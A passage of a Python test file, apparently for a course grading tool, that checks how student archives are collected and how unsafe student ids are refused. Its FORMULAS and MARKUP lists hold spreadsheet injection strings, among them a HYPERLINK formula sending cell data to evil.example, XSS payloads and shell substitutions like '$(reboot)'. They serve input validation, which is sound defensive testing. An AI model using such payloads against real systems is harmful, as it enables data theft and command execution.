) -> None:
    """where the only folder may be a student's or one around others, nothing is taken and a person is asked"""
    assert refusals(bare_course, honest_zip(tmp_path / "first.zip")) == {}
    before = tree(bare_course.root)
    source = tmp_path / "late.zip"
    with zipfile.ZipFile(source, "w") as archive:
        for name in names:
            archive.writestr(entry(name), b"# forged\n")
    if as_folder:
        with zipfile.ZipFile(source) as archive:
            archive.extractall(tmp_path / "late")
        source = tmp_path / "late"
    lines = collect(bare_course, UNIT, source, force=True)
    assert {line.fate for line in lines} == {Fate.REFUSED}
    assert_told(lines)
    assert tree(bare_course.root) == before


def test_the_question_about_a_folder_names_what_it_holds(bare_course: Course, tmp_path: Path) -> None:
    """the refusal says which folder, what is in it, and what to do in either case"""
    with zipfile.ZipFile(tmp_path / "x.zip", "w") as archive:
        archive.writestr(entry("alice/bob/convolution.py"), WORK)
    (line,) = collect(bare_course, UNIT, tmp_path / "x.zip")
    assert line.found == "alice"
    assert "it holds bob, and may be a student's folder or one around the work of many" in line.reason
    assert "If it is a student's, put the work straight into it, or name the student with --map." in line.reason
    assert line.reason.endswith(f"go on with: cnngrade collect convolution --from {tmp_path / 'x.zip'} --inside alice")


def test_a_known_student_hands_in_folders_of_others(bare_course: Course, tmp_path: Path) -> None:
    """the folder of a student who has handed in before is never one around others, whoever they are"""
    assert refusals(bare_course, honest_zip(tmp_path / "first.zip", "alice/convolution.py"), "alice") == {}
    before = tree(bare_course.root)
    with zipfile.ZipFile(tmp_path / "late.zip", "w") as archive:
        for name in ("Alice/carol/convolution.py", "Alice/dave/convolution.py"):
            archive.writestr(entry(name), b"# forged\n")
    (line,) = collect(bare_course, UNIT, tmp_path / "late.zip", force=True)
    assert (line.student, line.fate) == ("Alice", Fate.REFUSED)
    assert tree(bare_course.root) == before


@pytest.mark.parametrize(
    "around", ["submissions", "Submissions (1)", "handed-in", "exchange/inbound", "convolution", "convolution-submissions",
               "assignment_4567_export", "Unit 3", "week_12", "submissions/convolution", "convolution/submitted"],
)  # fmt: skip
def test_folders_around_everybodys_work(bare_course: Course, tmp_path: Path, around: str) -> None:
    """a folder whose name can be no student's is one around everybody's work, at any depth"""
    source = tmp_path / "all.zip"
    with zipfile.ZipFile(source, "w") as archive:
        for name in ("alice/convolution.py", "bob/convolution/convolution.py", "carol_convolution.py"):
            archive.writestr(entry(f"{around}/{name}"), WORK)
    assert {line.student: line.fate for line in collect(bare_course, UNIT, source)} == dict.fromkeys(
        ("alice", "bob", "carol"), Fate.COLLECTED
    )


WRAPPERS = [
    "Abgaben", "CNN 101 - WS2026", "group A", "Convolution-Exercise-3", "CNN-Convolution-4711", "Kurs\u00fcbung", "2026",
    "submissions/CNN 101", "Prof. Lovelace's class",
]  # fmt: skip


@pytest.mark.parametrize("as_folder", [False, True])
@pytest.mark.parametrize("around", WRAPPERS, ids=ascii)
def test_a_folder_of_any_name_around_students_folders(
    bare_course: Course, tmp_path: Path, around: str, as_folder: bool
) -> None:
    """a folder of any name that mostly holds folders with work of students who are all new is one around theirs"""
    source = tmp_path / "all.zip"
    names = (
        "ada/convolution.ipynb", "bob/convolution/convolution.py", "Eve L_11_assignsubmission_file_/convolution.py",
        "late/report.pdf", "readme.txt",
    )  # fmt: skip
    with zipfile.ZipFile(source, "w") as archive:
        for name in names:
            archive.writestr(entry(f"{around}/{name}"), WORK)
    if as_folder:
        with zipfile.ZipFile(source) as archive:
            archive.extractall(tmp_path / "late")
        source = tmp_path / "late"
    lines = collect(bare_course, UNIT, source)
    assert {line.student for line in lines if line.fate is Fate.COLLECTED} == {"ada", "bob", "Eve-L"}
    assert {line.found for line in lines if line.fate is Fate.REFUSED} == {"late", f"{around}/readme.txt"}


ANYBODYS = [
    "eve/max.py", "eve/old/max.ipynb", "eve/test.py", "eve/test/x.txt", "eve/test_convolution.py", "eve/convolution_test.py",
    "eve/autograde_tests/test_convolution.py", "eve/test/test_convolution.py", "eve/max/notes.txt", "eve/bob/notes.txt",
    "eve/bob.ipynb", "eve/bob.zip", "eve/lib/bob.tar.gz", "eve/max/max.py", "eve/convolution/convolution.py",
    "eve/max-deconvolutions.py", "eve/bob_convolution.zip",
]  # fmt: skip


@pytest.mark.parametrize("name", ANYBODYS)
def test_ordinary_words_that_are_students_ids(bare_course: Course, tmp_path: Path, name: str) -> None:
    """what is not work on the unit stays a student's own, though somebody is called so, and nobody else gets it"""
    others = ("max/convolution.py", "test/convolution.py", "convolution/convolution.py")
    archive = honest_zip(tmp_path / "words.zip", "eve/convolution.ipynb", name, *others)
    assert refusals(bare_course, archive, "eve", "max", "test", "convolution") == {}
    submitted = bare_course.root / "classroom" / "submitted"
    inside = name.removeprefix("eve/")
    assert (submitted / "eve" / UNIT.name / inside).read_bytes() == b"# not bob's\n"
    for other in ("max", "test", "convolution"):
        work = tree(submitted / other / UNIT.name)
        assert set(work) == {"convolution.py"}


def test_a_folder_of_a_students_own_may_have_any_other_name(bare_course: Course, tmp_path: Path) -> None:
    """folders and files of one's own are taken, one's own name among them, and the handout's folders mean nobody"""
    own = ("data/x.txt", "lib/helpers.py", "eve/old.txt", "eve_convolution.py", "pictures/a.py", "robert/convolution.py")
    archive = honest_zip(tmp_path / "own.zip", "eve/convolution.py", *(f"eve/{name}" for name in own), "data/convolution.py")
    assert refusals(bare_course, archive, "eve", "data") == {}


def test_a_folder_and_a_file_of_one_name(bare_course: Course, tmp_path: Path) -> None:
    """what was put beside a student's folder under the student's name is not mixed with it"""
    archive = honest_zip(tmp_path / "two.zip", "eve/convolution.py", "eve_convolution.py")
    assert list(refusals(bare_course, archive)) == ["eve"]


def test_a_platform_gives_one_student_two_folders(bare_course: Course, tmp_path: Path) -> None:
    """the platform's own number says that two folders are one student's"""
    archive = honest_zip(
        tmp_path / "two.zip", "Eve_12_assignsubmission_file/convolution.py", "Eve_12_assignsubmission_onlinetext/text.html"
    )
    assert refusals(bare_course, archive, "Eve") == {}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)', "=cmd", "+1", "+SUM", "@SUM(A1)", "@SUM", "-2+3", "-cmd", "\t=1", "'=1",
    "\uff1d1", "\uff20SUM",
]  # fmt: skip


@pytest.mark.parametrize("student", FORMULAS, ids=ascii)
def test_formulas_for_names(bare_course: Course, tmp_path: Path, student: str) -> None:
    """a gradebook is opened as a table: no id begins as a formula does"""
    assert bad_student(student)
    name = f"{student.replace('/', '')}_convolution.py"
    refused = refusals(bare_course, archive_of(tmp_path / "formulas.zip", (entry(name), WORK)))
    assert list(refused) == [name]


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"onmouseover="x',
    "eve&amp;",
    "$(reboot)",
    "`id`",
    "%s%n",
]


@pytest.mark.parametrize("student", MARKUP)
def test_markup_and_commands_for_names(bare_course: Course, tmp_path: Path, student: str) -> None:
    """what a browser or a shell would take for its own is not an id"""
    assert bad_student(student)
    attack = (entry(f"{student}_convolution.py"), WORK)
    assert len(refusals(bare_course, archive_of(tmp_path / "markup.zip", attack))) == 1


@pytest.mark.parametrize("student", ["ada", "a.b@uni.example", "zo\u00eb", "\u674e\u660e", "ada-lovelace_2", "_x", "7"])
def test_ordinary_names_are_ids(student: str) -> None:
    """letters of any script, digits and the signs within them are taken"""
    assert bad_student(student) == ""


@pytest.mark.parametrize("student", ["NUL", "con", "Com1", "aux.txt", ".hidden", "dot.", "", "x" * 129])
def test_names_that_no_folder_has_everywhere(student: str) -> None:
    """an id is the name of a folder, on any system"""
    assert bad_student(student)


def test_times_beyond_the_calendar(bare_course: Course, tmp_path: Path) -> None:
    """a file of the year thirty thousand, and an archive's 31 February, stop nobody"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    (source / "eve.py").write_bytes(WORK)
    try:
        os.utime(source / "eve.py", (9e11, 9e11))
    except (OSError, OverflowError):
        pytest.skip("this file system knows no such time")
    assert refusals(bare_course, source, "eve") == {}


# Notebooks


def test_a_notebook_of_65_mb(bare_course: Course, tmp_path: Path) -> None:
    """a notebook beyond the limit is refused where it is collected, and where it is read, by name and size"""
    source = folder_with_honest_work(tmp_path / "handed-in")
    (source / "eve").mkdir()
    path = source / "eve" / "convolution.ipynb"
    with path.open("wb") as file:
        file.write(b'{"cells": [')
        file.truncate(MAX_BYTES + (1 << 20))
    lines = collect(bare_course, UNIT, source)
    assert {line.found: line.reason for line in lines if line.fate is Fate.REFUSED} == {
        "eve/convolution.ipynb": "it is larger than 64 MiB"
    }
    with pytest.raises(SubmissionError, match=r"convolution\.ipynb is 65 MiB; at most 64 MiB are read"):
        read_work(path, UNIT.name)


@pytest.mark.usefixtures("no_tracing")
@pytest.mark.parametrize("cell", ['{"cell_type":"code","source":"a"}', "{}"])
def test_a_notebook_of_a_million_cells(tmp_path: Path, cell: str) -> None:
    """many cells are counted, and none is parsed; a million are refused before that"""
    path = tmp_path / "convolution.ipynb"
    for count, told in ((30_000, "30,000 cells; at most 10,000 are read"), (1_000_000, "holds more data than is read")):
        path.write_text('{"cells": [' + ",".join([cell] * count) + "]}")
        with pytest.raises(SubmissionError, match=told):
            read_work(path, UNIT.name)


LONG = {
    "a million empty lines": "x = 1" + "\n" * 1_000_000 + "y = 1",
    "a million spaces": " " * 1_000_000 + "x",
    "a million calls of ours": "cnngrade.check(1)\n" * 200_000,
    "a marker that never ends": "# %% " + "tags=[" * 150_000,
    "a million brackets": "(" * 1_000_000,
    "a quarter of a million cells": "#%%\n" * 250_000,
    "five megabytes": "x = 1\n" * 900_000,
    "empty strings without end": "'''" * 300_000,
}


@pytest.mark.usefixtures("no_tracing")
@pytest.mark.parametrize("suffix", ["py", "ipynb"])
@pytest.mark.parametrize("text", LONG.values(), ids=LONG.keys())
def test_long_code_is_read_in_time(tmp_path: Path, text: str, suffix: str) -> None:
    """no code takes the square of its length to be read, whoever reads it"""
    path = tmp_path / f"convolution.{suffix}"
    cell = {"cell_type": "code", "metadata": {"tags": ["playground"]}, "source": text}
    path.write_text(text if suffix == "py" else json.dumps({"cells": [cell]}))
    for read in (lambda: read_work(path, UNIT.name), lambda: student_cells(path)):
        with contextlib.suppress(SubmissionError):
            assert read() is not None
